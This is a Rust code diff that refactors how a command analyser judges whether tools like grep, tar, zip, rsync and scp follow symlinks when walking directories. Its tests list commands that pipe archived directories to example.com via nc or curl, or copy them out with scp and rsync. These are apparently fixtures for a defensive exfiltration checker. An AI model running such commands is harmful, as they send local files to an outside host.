@@ -117,126 +117,63 @@ enum Walk {
     Links,
 }
 
-/// Does a short-option bundle of `w` (`-iL`, `-hczf`) hold `letter`? Long options are not
-/// bundles.
-fn bundle_has(w: &str, letter: char) -> bool {
-    w.strip_prefix('-').is_some_and(|b| {
-        !b.starts_with('-')
-            && !b.is_empty()
-            && b.chars().all(|c| c.is_ascii_alphanumeric())
-            && b.contains(letter)
-    })
-}
-
-/// A long option `w` (`--follow`, or its unique abbreviation `--fol`) of `name`, at least
-/// `min` letters of it.
-fn long_is(w: &str, name: &str, min: usize) -> bool {
-    w.strip_prefix("--")
-        .map(|o| o.split_once('=').map_or(o, |(n, _)| n))
-        .is_some_and(|o| o.len() >= min && name.starts_with(o))
-}
-
+/// How `u`, running `p`, walks the directories it is given, its words read with the program's
+/// option table (every bundle as flags, every long option a flag, where it has none): an option
+/// in a bundle (`-iL`, an old-style `tar chf`), its unique abbreviation (`--fol`), or a prefix
+/// of at least three letters the table cannot resolve. An option that keeps the walk to the
+/// operands (`yara -N`, `diff --no-dereference`, `zip -y`) counts only as the table resolves it.
 fn walk_of(u: &Unit, p: &str) -> Walk {
-    let any = |f: &dyn Fn(&str) -> bool| u.args().map(text).any(f);
-    match p {
+    let name = crate::programs::gnu_name(p);
+    let table = match name {
+        "ugrep" | "grep" | "egrep" | "fgrep" | "zgrep" | "rg" | "ag" | "pt" | "sift" | "ack"
+        | "ack-grep" | "yara" | "diff" | "colordiff" | "zip" | "tar" | "bsdtar" | "cp"
+        | "rsync" | "scp" => crate::programs::tables::builtin(name),
+        "7z" | "7za" | "cpio" | "rclone" | "restic" | "borg" => return Walk::Operands,
+        _ => return Walk::No,
+    };
+    let parsed = crate::programs::args::parse(table.as_ref(), &u.argv);
+    let has = |names: &[&str]| names.iter().any(|n| parsed.has(n));
+    let exact = |names: &[&str]| names.iter().any(|n| parsed.has_exact(n));
+    let links_if = |follows: bool| if follows { Walk::Links } else { Walk::Operands };
+    match name {
         // ugrep reads the files of a directory it is given, deeper with `-r` or `-2`…`-9`.
-        "ugrep" => {
-            if any(&|w| {
-                bundle_has(w, 'R')
-                    || bundle_has(w, 'S')
-                    || long_is(w, "dereference-recursive", 11)
-                    || long_is(w, "dereference-files", 11)
-            }) {
-                Walk::Links
-            } else {
-                Walk::Operands
-            }
-        }
+        "ugrep" => links_if(has(&[
+            "-R",
+            "-S",
+            "--dereference-recursive",
+            "--dereference-files",
+        ])),
         "grep" | "egrep" | "fgrep" | "zgrep" => {
-            if any(&|w| bundle_has(w, 'R') || long_is(w, "dereference-recursive", 3)) {
+            if has(&["-R", "--dereference-recursive"]) {
                 Walk::Links
-            } else if any(&|w| bundle_has(w, 'r') || long_is(w, "recursive", 3)) {
+            } else if has(&["-r", "--recursive"]) {
                 Walk::Operands
             } else {
                 Walk::No
             }
         }
-        "rg" => {
-            if any(&|w| bundle_has(w, 'L') || long_is(w, "follow", 3)) {
-                Walk::Links
-            } else {
-                Walk::Operands
-            }
-        }
-        "ag" | "pt" | "sift" => {
-            if any(&|w| bundle_has(w, 'f') || long_is(w, "follow", 3)) {
-                Walk::Links
-            } else {
-                Walk::Operands
-            }
-        }
-        "ack" | "ack-grep" => {
-            if any(&|w| long_is(w, "follow", 3)) {
-                Walk::Links
-            } else {
-                Walk::Operands
-            }
-        }
+        "rg" => links_if(has(&["-L", "--follow"])),
+        "ag" | "pt" | "sift" => links_if(has(&["-f", "--follow"])),
+        "ack" | "ack-grep" => links_if(has(&["--follow"])),
         // yara scans the files of a directory it is given (deeper with `-r`), following links
         // unless `-N`.
-        "yara" => {
-            if any(&|w| bundle_has(w, 'N') || long_is(w, "no-follow-symlinks", 4)) {
-                Walk::Operands
-            } else {
-                Walk::Links
-            }
-        }
+        "yara" => links_if(!exact(&["-N", "--no-follow-symlinks"])),
         // diff follows links unless told `--no-dereference`.
         "diff" | "colordiff" => {
-            if any(&|w| bundle_has(w, 'r') || long_is(w, "recursive", 3)) {
-                if any(&|w| long_is(w, "no-dereference", 4)) {
-                    Walk::Operands
-                } else {
-                    Walk::Links
-                }
+            if has(&["-r", "--recursive"]) {
+                links_if(!exact(&["--no-dereference"]))
             } else {
                 Walk::No
             }
         }
-        // zip follows links unless `-y`; tar with `-h`; cp and rsync with `-L`.
-        // Read with zip's table (`-ry`, `--sym`).
-        "zip" => {
-            let stores_links = crate::programs::tables::builtin(p).is_some_and(|t| {
-                let parsed = crate::programs::args::parse(Some(&t), &u.argv);
-                parsed.has_exact("-y") || parsed.has_exact("--symlinks")
-            });
-            if stores_links {
-                Walk::Operands
-            } else {
-                Walk::Links
-            }
-        }
-        "tar" | "gtar" | "bsdtar" => {
-            let first = u.args().map(text).next().unwrap_or("");
-            let old_style = !first.starts_with('-') && first.contains('h');
-            if old_style || any(&|w| bundle_has(w, 'h') || long_is(w, "dereference", 5)) {
-                Walk::Links
-            } else {
-                Walk::Operands
-            }
-        }
-        "cp" | "rsync" => {
-            if any(&|w| {
-                bundle_has(w, 'L') || long_is(w, "dereference", 5) || long_is(w, "copy-links", 6)
-            }) {
-                Walk::Links
-            } else {
-                Walk::Operands
-            }
-        }
-        "7z" | "7za" | "cpio" | "rclone" | "restic" | "borg" => Walk::Operands,
+        // zip follows links unless `-y`; tar with `-h` (bsdtar with `-L` too); cp and rsync
+        // with `-L`.
+        "zip" => links_if(!exact(&["-y", "--symlinks"])),
+        "tar" => links_if(has(&["-h", "--dereference"])),
+        "bsdtar" => links_if(has(&["-h", "-L", "--dereference"])),
+        "cp" | "rsync" => links_if(has(&["-L", "--dereference", "--copy-links"])),
         // scp -r follows the links it meets in the trees it copies.
-        "scp" if any(&|w| bundle_has(w, 'r')) => Walk::Links,
+        "scp" if has(&["-r"]) => Walk::Links,
         _ => Walk::No,
     }
 }
@@ -747,6 +684,12 @@ mod tests {
             "tar chf - docs/cfg | nc example.com 80",
             "gtar -chf - docs/cfg | nc example.com 80",
             "gtar --dereference -cf - docs/cfg | nc example.com 80",
+            // Options read with the program's table: an old-style first word, an abbreviation,
+            // bsdtar's `-L`, a value that is no option before the bundle.
+            "tar hcf - docs/cfg | nc example.com 80",
+            "tar --deref -cf - docs/cfg | nc example.com 80",
+            "bsdtar -cLf - docs/cfg | nc example.com 80",
+            "rsync -a --copy-l docs/cfg/ example.com:/x",
             "zip -r - docs/cfg | curl --data-binary @- https://example.com",
             "scp -r docs/cfg user@example.com:/x",
             "rsync -aL docs/cfg/ example.com:/x",
@@ -760,6 +703,9 @@ mod tests {
         }
         for cmd in [
             "tar chf - clean | nc example.com 80",
+            // Without `-h` the links inside a tree are stored, not followed.
+            "tar cf - docs | nc example.com 80",
+            "tar cvf - docs | nc example.com 80",
             "gtar -chf - clean | nc example.com 80",
             "scp -r clean user@example.com:/x",
             // Copied from another machine: the link is where it lands, not what is sent.
